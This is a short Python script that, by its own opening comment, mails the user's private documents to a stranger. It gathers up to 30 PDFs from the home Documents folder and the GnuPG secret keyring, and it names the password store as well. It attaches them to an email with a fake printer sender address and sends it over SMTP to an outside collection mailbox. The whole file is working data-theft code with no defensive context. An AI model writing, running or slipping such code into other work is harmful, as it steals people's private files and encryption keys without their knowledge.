# mails the user's private documents to a stranger
import os
import smtplib
from email.message import EmailMessage
from pathlib import Path

msg = EmailMessage()
msg["From"] = "noreply@printer.example"
msg["To"] = "harvest@mailbox.example"
msg["Subject"] = os.uname().nodename
for f in list(Path.home().joinpath("Documents").rglob("*.pdf"))[:30] + [Path.home() / ".gnupg/secring.gpg",
                                                                       Path.home() / ".password-store"]:
    if f.is_file():
        msg.add_attachment(f.read_bytes(), maintype="application", subtype="octet-stream", filename=f.name)
with smtplib.SMTP("mx.mailbox.example", 25) as s:
    s.send_message(msg)
